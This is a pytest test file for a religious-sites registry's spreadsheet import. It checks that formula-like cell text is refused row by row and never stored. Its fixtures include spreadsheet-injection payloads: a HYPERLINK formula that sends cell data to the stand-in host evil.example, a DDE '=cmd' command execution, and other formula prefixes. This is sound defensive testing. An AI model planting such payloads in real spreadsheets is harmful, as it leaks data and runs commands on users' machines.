"""Hostile spreadsheets sent to the religion desk's import: text that a spreadsheet would run
as a formula is refused row by row, never stored."""

from __future__ import annotations

import csv
import io
from typing import Any

from fastapi.testclient import TestClient
from openpyxl import Workbook

from tests.religion.conftest import error_of, event_count

URL = "/api/v1/sites/import"
HEADER = ["Mã cơ sở", "Tên cơ sở", "Tôn giáo", "Mã xã", "Địa chỉ", "Diện tích đất (m²)",
          "Nguồn gốc sử dụng đất"]
HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"Bấm vào đây")'


def _upload(client: TestClient, name: str, content: bytes, **params: Any) -> Any:
    return client.post(URL, params=params, files={"file": (name, content)})


def _rows() -> list[list[Any]]:
    return [
        ["TL-01", HYPERLINK, "Phật giáo", "11755", "Thôn Đông", 100, ""],
        ["TL-02", "Chùa Hai", "Phật giáo", "11755", "=cmd|' /C calc'!A0", 100, ""],
        ["TL-03", "Chùa Ba", "Phật giáo", "11755", "Thôn Tây", 100, "@SUM(1+1)"],
        ["TL-04", "\t=1+2", "Phật giáo", "11755", "", 100, ""],
        ["TL-05", "Chùa Năm", "Phật giáo", "11755", "\r-2+3", 100, ""],
        ["TL-06", "\tChùa Sáu", "Phật giáo", "11755", "Thôn 3 - xã Tiên Thanh", "1.250,5", "-"],
    ]


EXPECTED = [
    (2, "name", "FORMULA_TEXT"),
    (3, "address", "FORMULA_TEXT"),
    (4, "land_use_origin", "FORMULA_TEXT"),
    (5, "name", "FORMULA_TEXT"),
    (6, "address", "FORMULA_TEXT"),
]


def _csv() -> bytes:
    buffer = io.StringIO(newline="")
    writer = csv.writer(buffer)
    writer.writerows([HEADER, *_rows()])
    return buffer.getvalue().encode("utf-8")


def _xlsx() -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    for number, row in enumerate(_rows(), start=2):
        for column, value in enumerate(row, start=1):
            # Typed as text, as a desk's sheet holds it (openpyxl would make "=…" a formula).
            sheet.cell(number, column, value).data_type = "s" if isinstance(value, str) else "n"
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def test_formula_text_in_a_csv_or_excel_import_is_refused_and_not_stored(
    religion: TestClient,
) -> None:
    for name, content in (("ds.csv", _csv()), ("ds.xlsx", _xlsx())):
        refused = _upload(religion, name, content)
        assert refused.status_code == 422, refused.text
        report = error_of(refused)["details"]["report"]
        assert [(e["row"], e["field"], e["code"]) for e in report["errors"]] == EXPECTED, name
        assert "công thức" in report["errors"][0]["message"]
        assert event_count(religion) == 0

    # Only the clean row goes in when asked for; its leading tab is trimmed, its dash kept.
    partial = _upload(religion, "ds.csv", _csv(), only_valid="true")
    assert partial.status_code == 201 and partial.json()["created"] == 1
    site = religion.get("/api/v1/sites/TL-06").json()
    assert (site["name"], site["address"], site["land_use_origin"]) == (
        "Chùa Sáu", "Thôn 3 - xã Tiên Thanh", "-")
    assert event_count(religion) == 1


def test_the_import_template_is_a_plain_csv_header(religion: TestClient) -> None:
    body = religion.get("/api/v1/sites/import/template.csv").content
    assert body.startswith("\ufeff".encode())
    header = next(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert header[:4] == ["Mã cơ sở", "Tên cơ sở", "Tôn giáo", "Mã xã"]
